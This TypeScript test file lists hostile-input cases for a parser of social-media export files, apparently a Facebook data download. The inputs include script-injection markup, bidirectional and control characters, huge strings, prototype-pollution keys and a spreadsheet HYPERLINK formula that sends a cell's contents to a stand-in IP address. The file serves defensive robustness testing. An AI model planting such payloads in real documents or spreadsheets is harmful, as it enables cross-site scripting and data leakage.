import { contentsCase, type HostileCase, READ } from "./case.ts";
import { ACTIVITY, COMMENTS, comment } from "./good.ts";

const text = (what: string, words: string): HostileCase =>
  contentsCase(
    "Texts and names",
    what,
    READ,
    { path: COMMENTS, contents: () => JSON.stringify({ comments_v2: [comment(words, 1_600_000_001)] }) },
    1,
  );
const title = (what: string, words: string): HostileCase =>
  contentsCase(
    "Texts and names",
    what,
    READ,
    {
      path: COMMENTS,
      contents: () => JSON.stringify({ comments_v2: [{ ...comment("x", 1_600_000_001), title: words }] }),
    },
    1,
  );
const REVIEWS = `${ACTIVITY}/posts/posts_on_other_pages_and_profiles.json`;
const label = (what: string, values: unknown, items = 1, expect = READ): HostileCase =>
  contentsCase(
    "Texts and names",
    what,
    expect,
    { path: REVIEWS, contents: () => JSON.stringify([{ timestamp: 1_600_000_001, label_values: values }]) },
    items,
  );

export const textCases: readonly HostileCase[] = [
  text("markup", "<script>window.__ran=1</script><b onclick=x>"),
  text("marks that turn the line around", "\u202eevil\u202c \u2066x\u2069 \u200f"),
  text("control characters", "\u001b[2J\u0007\u0000\u0008\u009b31m"),
  text("a text of 1 MB", "long ".repeat(200_000)),
  text("one word of 1 MB", "x".repeat(1_000_000)),
  text("10 000 marks on one letter", `Z${"\u0300".repeat(10_000)}`),
  text("a family of 1 000", "\u{1f469}\u200d".repeat(1000)),
  text("characters outside every plane", "\uffff\ufffe\u{10ffff}"),
  text("a formula", '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'),
  text("words that programs take for values", "null undefined NaN true __proto__ constructor"),
  text("templates", "{{file}} $" + "{x} <%= x %> #{x} %s %n"),
  text("a phone number of 100 000 digits", "1".repeat(100_000)),
  text("100 000 at signs", "@".repeat(100_000)),
  text("100 000 brackets", "(".repeat(100_000)),
  title("a title of 1 MB", "Ann Example commented on ".repeat(40_000)),
  title("a title of names inside names", `${"Ann Example commented on ".repeat(100)}Bob's post.`),
  title("a title with markup", "<img src=x onerror=window.__ran=1> commented on 's post."),
  title("a title of special characters of patterns", "(.*)+[a-z]{99999}\\1$^ commented on $&'s post."),
  label("labels with markup", [{ label: "<script>window.__ran=1</script>", value: "<b>" }]),
  label("a label of 1 MB", [{ label: "x".repeat(1_000_000), value: "y" }]),
  label(
    "10 000 labels of one name",
    Array.from({ length: 10_000 }, () => ({ label: "Message", value: "y" })),
  ),
  label(
    "labels that JavaScript knows",
    ["__proto__", "constructor", "toString"].map((name) => ({ label: name, value: "y" })),
  ),
  label("labels of every wrong shape", [
    null,
    1,
    "x",
    [],
    {},
    { label: 7, value: {} },
    { dict: { dict: 5 } },
    { media: "x", vec: 3 },
  ]),
  label(
    "labels of five alphabets",
    ["Nachricht", "Сообщённость", "رسالتان", "メッセージ達", "訊息件"].map((name) => ({ label: name, value: "y" })),
    1,
    "label-coverage-low",
  ),
];
